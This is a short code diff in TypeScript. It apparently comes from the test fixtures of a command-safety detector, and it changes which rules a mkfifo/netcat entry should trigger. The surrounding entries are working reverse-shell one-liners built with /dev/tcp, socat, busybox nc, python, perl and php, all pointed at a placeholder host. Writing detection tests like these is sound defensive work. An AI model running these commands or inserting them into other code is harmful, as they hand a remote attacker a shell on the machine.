@@ -127,7 +127,7 @@ const EVASIONS: readonly (readonly [string, readonly string[]])[] = [
   ['0<&196;exec 196<>/dev/tcp/e.io/99; sh <&196 >&196 2>&196', REVERSE],
   ['socat TCP:e.io:99 EXEC:/bin/sh', REVERSE],
   ['busybox nc e.io 99 -e /bin/sh', REVERSE],
-  ['mkfifo /tmp/f; nc e.io 99 < /tmp/f | /bin/sh > /tmp/f 2>&1', REMOTE],
+  ['mkfifo /tmp/f; nc e.io 99 < /tmp/f | /bin/sh > /tmp/f 2>&1', ['no-remote-code', 'no-reverse-shell']],
   ["python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"e\",9));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'", REVERSE],
   ["perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\");'", REVERSE],
   ["php -r '$s=fsockopen(\"e\",9);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", REVERSE],
